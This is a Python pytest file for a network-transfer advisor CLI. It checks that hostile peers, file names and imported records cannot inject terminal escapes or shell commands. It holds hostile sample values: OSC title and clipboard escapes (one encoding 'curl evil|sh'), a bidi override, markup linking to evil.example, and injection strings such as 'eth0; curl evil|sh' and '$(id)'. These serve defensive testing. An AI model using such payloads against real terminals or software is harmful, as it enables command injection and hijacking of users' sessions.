"""Text from a hostile peer, file system or file: what reaches the terminal, and what is copied."""

import ast
import json
import os
import re
import shlex
import subprocess
import sys
import unicodedata
from pathlib import Path
from typing import Any, Final

import msgspec
import pytest

from advisor.agent import messages as m
from advisor.domain.path import HostFacts
from advisor.domain.problem import Problem, ProblemKind
from advisor.hosts.source_listing import manifest_of
from advisor.models.limits import binding_limits
from advisor.testing.samples import a_host, a_path

ROOT: Final = Path(__file__).parents[2]
TITLE: Final = "\x1b]0;owned\x07"
CLIPBOARD: Final = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
OVERRIDE: Final = "\u202e"
MARKUP: Final = "[b][link=http://evil.example]x"
EVIL: Final = f"{TITLE}{CLIPBOARD}{OVERRIDE}\x9b31m{MARKUP}"
INTERFACE: Final = "eth0; curl evil|sh"


def obeyed(text: str) -> list[str]:
    """The characters that a terminal would obey, or that hide or reorder what stands there."""
    hidden = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return [c for c in text if unicodedata.category(c) in hidden and c not in "\n\t"]


def run(*words: str, **environment: str) -> subprocess.CompletedProcess[str]:
    """The command in a process of its own, as a user runs it; its output is checked."""
    done = subprocess.run(
        [sys.executable, "-m", "advisor", *words],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env=os.environ | environment,
        stdin=subprocess.DEVNULL,
    )
    assert "Traceback" not in done.stderr
    assert obeyed(done.stdout) == []
    assert obeyed(done.stderr) == []
    return done


@pytest.fixture(autouse=True)
def own_folders(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for kind in ("STATE", "CACHE", "DATA", "CONFIG"):
        monkeypatch.setenv(f"XDG_{kind}_HOME", str(tmp_path / kind.lower()))


# ---------------------------------------------------------------- a hostile agent


def facts_of(**changes: Any) -> bytes:
    facts = json.loads(msgspec.json.encode(a_host())) | changes
    return json.dumps({"say": "facts", "facts": facts, "transports": ["tcp"]}).encode()


@pytest.mark.parametrize(
    "changes",
    [
        {"interface": INTERFACE},
        {"interface": "-eth0"},
        {"interface": f"eth0{CLIPBOARD}"},
        {"hostname": EVIL},
        {"hostname": MARKUP},
        {"hostname": f"{OVERRIDE}dtn"},
        {"hostname": "h" * 256},
        {"kernel": EVIL},
        {"kernel": "6.1; id"},
        {"congestion": "bbr; id"},
        {"congestion_available": ["cubic", CLIPBOARD]},
        {"qdisc": "fq\n"},
        {"versions": {"advisor": EVIL}},
        {"versions": {TITLE: "1"}},
        {"versions": {"advisor": "1" * 300}},
    ],
)
def test_facts_with_names_that_are_none_are_refused(changes: dict[str, Any]) -> None:
    assert isinstance(m.read_reply(facts_of()), m.Facts)
    with pytest.raises(ValueError, match=r"\S"):
        m.read_reply(facts_of(**changes))


@pytest.mark.parametrize(
    "reply",
    [
        {"say": "welcome", "protocol": 3, "version": CLIPBOARD},
        {"say": "probe_ready", "port": 5000, "versions": {"tool": CLIPBOARD}},
        {"say": "files_moved", "reasons": [CLIPBOARD]},
        {"say": "checksums_found", "seen_bytes": 0, "checksums": [{"reason": OVERRIDE}]},
        {
            "say": "target_taken",
            "target": "/d",
            "file": "/d/c",
            "who": EVIL,
            "since_s": 0,
            "is_active": True,
        },
    ],
)
def test_short_texts_that_cannot_be_shown_are_refused(reply: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match=r"\S"):
        m.read_reply(json.dumps(reply).encode())


def test_a_refusal_is_shown_with_escapes_and_bounded() -> None:
    line = json.dumps({"say": "refused", "message": EVIL + "\n" + "\x1b" * 900}).encode()
    reply = m.read_reply(line)
    assert isinstance(reply, m.Refused)
    assert obeyed(reply.message) == []
    assert "\n" not in reply.message
    assert len(reply.message) <= 1024
    # What was escaped once more often than a message may be long still goes back over the wire.
    assert m.read_reply(m.as_line(reply)) == reply


SSH: Final = """\
#!{python}
import json, sys, time
if "-G" in sys.argv:
    print("hostname 127.0.0.1\\nport 22")
    sys.exit()
sys.stderr.write({banner!r})
for line in {replies!r}:
    print(line, flush=True)
    if {listens!r}:
        sys.stdin.readline()
sys.exit(255)
"""


def hostile_ssh(folder: Path, *, banner: str = "", replies: tuple[str, ...] = ()) -> str:
    """A PATH on which `ssh` reaches a hostile far end, which says this."""
    folder.mkdir()
    script = folder / "ssh"
    script.write_text(
        # What never greets hangs up, so that nobody waits for its greeting.
        SSH.format(python=sys.executable, banner=banner, replies=replies, listens=len(replies) > 1)
    )
    script.chmod(0o755)
    return f"{folder}:{os.environ['PATH']}"


WELCOME: Final = json.dumps({"say": "welcome", "protocol": m.PROTOCOL, "version": "9"})


@pytest.mark.parametrize(
    "replies",
    [
        (),
        (EVIL,),
        (json.dumps({"say": "welcome", "protocol": 99, "version": EVIL}),),
        (WELCOME, json.dumps({"say": "refused", "message": EVIL})),
        (WELCOME, facts_of(hostname=EVIL).decode()),
        (WELCOME, facts_of(interface=INTERFACE).decode()),
    ],
)
@pytest.mark.parametrize("as_json", [False, True])
def test_what_a_far_end_says_reaches_no_terminal(
    tmp_path: Path, replies: tuple[str, ...], as_json: bool
) -> None:
    path = hostile_ssh(tmp_path / "bin", banner=f"{EVIL}\n", replies=replies)
    done = run("path", "evil.example", *(["--json"] if as_json else []), PATH=path)
    assert done.returncode != 0
    assert done.stdout + done.stderr
    if as_json:
        for line in done.stdout.splitlines():
            json.loads(line)


# ---------------------------------------------------------------- lines to copy


@pytest.mark.parametrize("interface", [INTERFACE, "$(id)", "`id`", "a b", f"e{CLIPBOARD}", "x\ny"])
def test_a_remedy_is_one_safe_command(interface: str) -> None:
    """Also where an interface of that name got past decoding."""
    host = a_host(interface=interface, mtu_bytes=1500, congestion="bbr", qdisc="pfifo")
    limits = binding_limits(a_path(source=host, destination=host))
    lines = [limit.remedy for limit in limits if " dev " in limit.remedy]
    assert len(lines) == 3
    for line in lines:
        assert obeyed(line) == []
        assert "\n" not in line
        # What the shell makes of it: the words, with the name as one of them.
        done = subprocess.run(
            ["bash", "-c", f'ip() {{ printf \'%s\\0\' "$@"; }}; tc() {{ ip "$@"; }}; {line}'],
            capture_output=True,
            check=True,
        )
        assert interface.encode() in done.stdout.split(b"\0")


def test_a_command_that_cannot_be_shown_is_never_offered() -> None:
    line = json.dumps({"kind": "failed", "reason": "r", "command": f"true{CLIPBOARD}"})
    assert msgspec.json.decode(line, type=Problem).command == ""
    assert Problem(kind=ProblemKind.FAILED, reason="r", command="a\nb").command == ""


# ---------------------------------------------------------------- hostile file names

NAMES: Final = (EVIL.replace("/", "_"), f"{OVERRIDE}fdp.exe", "new\nline", "a; id", b"\xff\x1b[2J")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "data"
    folder.mkdir()
    for name in NAMES:
        path = os.path.join(os.fsencode(folder), os.fsencode(name))  # noqa: PTH118 -- bytes
        with open(path, "wb") as file:  # noqa: PTH123 -- bytes
            file.write(b"x" * 1000)
    return folder


def test_exclusions_are_shown_with_escapes(folder: Path) -> None:
    manifest = manifest_of(folder)
    assert len(manifest.entries) == len(NAMES)  # The folder, and all but one file.
    [excluded] = manifest.exclusions
    assert excluded.name == r"\xff\x1b[2J"


def test_advice_on_a_dataset_with_hostile_names(folder: Path) -> None:
    done = run("path", "localhost", "--json")
    assert done.returncode == 0
    hostile = folder / NAMES[0]
    for words in (
        ("advise", "localhost", "--data", str(hostile), "--budget", "1s", "--to", "/nowhere"),
        ("advise", "localhost", "--data", f"{hostile}-missing"),
        ("verify", "localhost", "--data", f"{hostile}-missing", "--to", "/nowhere"),
        ("history", "import", str(hostile)),
        ("history", "show", f"a->{EVIL}"),
        ("file-io", f"{hostile}-missing"),
        ("backtest", str(hostile)),
        (f"no-{EVIL}",),
    ):
        done = run(*words)
        assert done.returncode != 0, words
        assert done.stderr, words


def test_a_transfer_of_hostile_names(folder: Path, tmp_path: Path) -> None:
    target = tmp_path / "target"
    done = run(
        *("transfer", "localhost", "--data", str(folder), "--to", str(target)),
        *("--method", "globus-default"),
    )
    # With or without the tool here, the names are shown with escapes.
    assert done.returncode != 0


# ---------------------------------------------------------------- hostile imports

PROF: Final = (
    "h1 {name} 02:28:2020:23:59:58 TCP {tool} 2 1460 65536 B 131072 B 10 sec 100000000 B 80.0 Mbps"
)


def test_imported_rows(tmp_path: Path) -> None:
    store, file = tmp_path / "store", tmp_path / "x.PROF"
    # str.split takes \x1c to \x1f for spaces: the others are kept within a field.
    rows = [
        PROF.format(name="h2", tool="iperf3"),
        PROF.format(name=f"h2{CLIPBOARD}", tool="iperf3"),
        PROF.format(name=f"{OVERRIDE}h2", tool="iperf3"),
        PROF.format(name="h3", tool=f"iperf{CLIPBOARD}"),
        PROF.format(name="[b]h4[/b]", tool="iperf3"),
        PROF.format(name="h5", tool="iperf3").replace("TCP", f"T{EVIL}"),
    ]
    file.write_text("\n".join(rows))
    done = run("history", "import", str(file), "--store", str(store))
    assert "Imported 3, refused 3" in done.stdout
    for words in (
        ("list",),
        ("list", "--csv"),
        ("list", "--json"),
        ("sessions",),
        ("show", "h1->h3"),
        ("show", "h1->[b]h4[/b]", "--json"),
        ("export",),
        ("export", "--format", "csv"),
        ("export", "--format", "markdown"),
    ):
        assert run("history", *words, "--store", str(store)).returncode == 0, words
    table = run("history", "list", "--store", str(store)).stdout
    assert "[b]h4[/b]" in table


def test_stored_records_with_hostile_text(tmp_path: Path) -> None:
    """A store that another program, or an older version, wrote."""
    store = tmp_path / "store"
    file = tmp_path / "x.PROF"
    file.write_text(PROF.format(name="h2", tool="iperf3"))
    run("history", "import", str(file), "--store", str(store))
    [journal] = store.glob("*/journal.jsonl")
    record = json.loads(journal.read_text())
    record |= {"subject": EVIL, "label": EVIL, "stage": EVIL, "setting": {"congestion": CLIPBOARD}}
    with journal.open("a") as lines:
        lines.write(json.dumps(record) + "\n")
        lines.write(json.dumps(record | {"pair": {"source": "h1", "destination": EVIL}}) + "\n")
    for words in (
        ("list",),
        ("list", "--json"),
        ("show", "h1->h2"),
        ("show", "h1->h2", "--csv"),
        ("show", "h1->h2", "--json"),
        ("sessions",),
        ("export",),
        ("export", "--format", "csv"),
        ("export", "--format", "markdown"),
    ):
        run("history", *words, "--store", str(store))


# ---------------------------------------------------------------- there is no other way out

WAYS_OUT: Final = {
    r"\btyper\.(echo|secho)\(": set(),
    r"(?<![\w.])print\(": set(),
    r"\bConsole\(": {"advisor/report/output.py"},
    r"from_markup\(": {"advisor/tui/kit/marked.py"},
    r"\bshlex\.(join|quote)\(": {
        "advisor/domain/shell.py",
        "advisor/report/script.py",  # A script is a file: any POSIX shell has to read it.
        "advisor/runtime/connect.py",  # Runs on the far end, and is of digits.
    },
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_text_leaves_through_one_module_only(way: str) -> None:
    found = {
        str(path.relative_to(ROOT))
        for folder in ("advisor", "plugins")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(way, path.read_text())
    }
    assert found == WAYS_OUT[way]


def test_every_command_of_a_problem_is_a_constant_or_quoted() -> None:
    """`command=` of a problem: a literal, a name, or a call; a formatted string only of names that
    have a pattern."""
    checked = re.compile(
        r"advisor lab (down|up|restore|load|schedule) |apt-get install |advisor ag"
    )
    for path in (ROOT / "advisor").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.keyword) and node.arg == "command":
                value = node.value
                if isinstance(value, ast.JoinedStr):
                    assert checked.search(ast.unparse(value)), f"{path}:{node.lineno}"


def test_an_honest_host_is_never_refused() -> None:
    facts = msgspec.convert(msgspec.to_builtins(a_host(interface="bond0.100")), HostFacts)
    assert shlex.split("ip link set dev " + (facts.interface or "")) == [
        *("ip", "link", "set", "dev", "bond0.100")
    ]
